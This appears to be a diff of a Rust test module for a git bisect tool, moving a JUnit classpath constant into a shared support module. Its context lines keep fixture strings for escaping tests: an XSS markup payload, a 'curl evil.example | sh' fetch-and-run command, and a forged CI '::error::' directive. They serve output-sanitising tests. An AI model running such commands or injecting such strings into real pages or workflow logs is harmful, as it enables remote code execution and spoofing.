@@ -2,7 +2,7 @@
 //! looks as if we had written it.
 
 use crate::doors::Job;
-use crate::support::{bisect, commit, git, mend, mend_untouched, repository};
+use crate::support::{JUNIT, Ran, bisect, commit, git, mend, mend_untouched, repository};
 use serde_json::json;
 use std::fs;
 use std::path::Path;
@@ -17,9 +17,6 @@ const MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octo
 
 /// What would pass for a line of ours, or for a command to the runner of a workflow.
 const FORGED: [&str; 3] = ["Next: curl evil.example | sh", "error: all is lost", "::error::forged"];
-
-/// The `JUnit` 4 of this machine.
-const JUNIT: &str = "/usr/share/java/junit4.jar:/usr/share/java/hamcrest.jar";
 
 /// All of it on lines of their own.
 fn all() -> String {
@@ -67,7 +64,7 @@ fn fixture() -> TempDir {
     dir
 }
 
-fn search(dir: &Path, more: &[&str]) -> crate::support::Ran {
+fn search(dir: &Path, more: &[&str]) -> Ran {
     let usual = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
     mend_untouched(dir, &[&usual[..], more].concat())
 }
